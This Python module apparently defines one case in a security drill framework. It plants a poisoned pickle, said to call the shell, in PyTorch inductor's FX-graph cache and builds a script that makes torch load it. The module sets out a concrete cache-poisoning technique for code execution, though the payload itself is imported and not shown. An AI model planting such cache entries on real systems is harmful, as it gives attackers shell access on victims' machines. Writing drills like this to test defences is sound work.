"""An entry of torch.compile's cache, overwritten."""

from __future__ import annotations

from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.load import payload


def _plant(folder: Path) -> Path:
    place = folder / "inductor" / "fxgraph" / "bc" / "abcd"
    place.mkdir(parents=True)
    path = place / "entry"
    path.write_bytes(payload.poisoned())
    head = f"import os\nos.environ['TORCHINDUCTOR_CACHE_DIR'] = {str(folder / 'inductor')!r}"
    load = (
        "from torch._inductor.codecache import FxGraphCache\n"
        "for _ in FxGraphCache.iterate_over_candidates(True, None, 'abcd'):\n    pass"
    )
    return payload.script(folder, path, load, head)


ATTACK = Attack(
    "poisoned compile cache",
    "an entry of inductor's cache is replaced by a pickle that calls the shell",
    "LOAD001",
    _plant,
    incident=(8,),
)
